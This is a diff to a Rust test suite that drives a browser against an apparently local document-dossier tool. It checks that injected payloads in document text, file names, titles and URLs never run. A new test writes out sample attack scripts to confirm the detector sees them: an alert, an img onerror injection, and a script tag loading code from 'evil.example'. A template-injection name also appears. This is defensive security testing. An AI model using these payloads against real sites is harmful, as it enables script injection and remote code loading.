@@ -3,8 +3,8 @@
 //! and of a file; then in the address of pages. There is no dialog, nothing is set, no policy is broken, nothing is fetched from elsewhere.
 
 use crate::driver::Browser;
-use crate::screens::reachable;
-use crate::served::{Served, folder, run, serve};
+use crate::screens::{at_home, reachable};
+use crate::served::{Served, folder, run, run_with, serve};
 use serde_json::json;
 use std::path::PathBuf;
 
@@ -16,6 +16,8 @@ fn payloads() -> Vec<String> {
 fn documents() -> PathBuf {
     let folder = folder("hostile-texts");
     let line = |(i, p): (usize, &String)| {
+        // No text has a zero byte: such a line is refused. All the rest of it is tried without, and in addresses with it.
+        let p = &p.replace('\0', "");
         let text = format!(
             "Mr. {p} of the Harbour Council said on Tuesday that the {p} proposal was dead. “{p},” said Mara {p}, the minister. The Dock Union \
              rejected the second draft, according to {p}. {i} people of {p} left the port on Monday, the union said.\n\n{p}\n"
@@ -26,6 +28,7 @@ fn documents() -> PathBuf {
     for (i, p) in payloads().iter().enumerate().step_by(5) {
         // What a file can be called at all.
         let name: String = p.chars().map(|c| if c == '/' { '∕' } else { c }).filter(|c| *c != '\0').take(60).collect();
+        let p = p.replace('\0', "");
         std::fs::write(folder.join(format!("n{i} {name}.txt")), format!("The union said that {p} was no offer.\n")).unwrap();
         let page = format!(
             "<html><head><title>{p}</title></head><body><article><h1>{p}</h1><p>The council said on Monday that {p} was over.</p></article></body></html>"
@@ -58,6 +61,29 @@ fn encoded(words: &str) -> String {
     words.bytes().map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") }).collect()
 }
 
+/// What is not seen when it happens would prove nothing when it is not seen.
+#[test]
+fn what_is_watched_for_is_seen() {
+    let _one = crate::alone();
+    let (browser, served) = at_home("watch");
+    assert_eq!(harm(&browser, &served, "nothing happened"), [""; 0]);
+    let happens = [
+        ("setTimeout(() => alert(1), 0)", "a dialog"),
+        ("window.ran = 1", "it ran"),
+        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')", "Content Security Policy"),
+        ("document.body.insertAdjacentHTML('beforeend', '<img src=\"data:image/svg+xml,<svg/>\">')", "Content Security Policy"),
+        ("document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))", "Content Security Policy"),
+        ("location = 'about:blank'", "led to"),
+    ];
+    for (script, sign) in happens {
+        browser.goto(&format!("{}/", served.origin));
+        browser.ask(script);
+        std::thread::sleep(std::time::Duration::from_millis(500));
+        let seen = harm(&browser, &served, script);
+        assert!(seen.iter().any(|s| s.contains(sign)), "{script} is not seen: {seen:?}");
+    }
+}
+
 #[test]
 fn words_of_documents_never_run() {
     assert_eq!(payloads().len(), 300);
@@ -65,9 +91,10 @@ fn words_of_documents_never_run() {
     let dossier = folder("hostile").join("talks.dossier");
     let at = dossier.to_str().unwrap().to_owned();
     run(&["init", &at, "--name", "<script>alert(1)</script>\"'>{{7*7}}"], b"");
-    run(&["add", texts.to_str().unwrap(), "--dossier", &at], b"");
+    // A page of nothing but markup holds no text, and is refused with a message; the others are taken.
+    run_with(&["add", texts.to_str().unwrap(), "--dossier", &at], b"", &[0, 1]);
     let _one = crate::alone();
-    let served = serve(dossier);
+    let served = serve(&dossier);
     let browser = Browser::open("hostile");
     browser.goto(&served.enter);
     let mut wrong = harm(&browser, &served, "the first page");
@@ -78,7 +105,7 @@ fn words_of_documents_never_run() {
     }
     for (i, p) in payloads().iter().enumerate() {
         // The document that holds it, and the same words where a page takes them from its address.
-        let id = encoded(&format!("{p} {i}"));
+        let id = encoded(&format!("{} {i}", p.replace('\0', "")));
         let words = encoded(p);
         let reflected = [
             format!("/search?words={words}"),
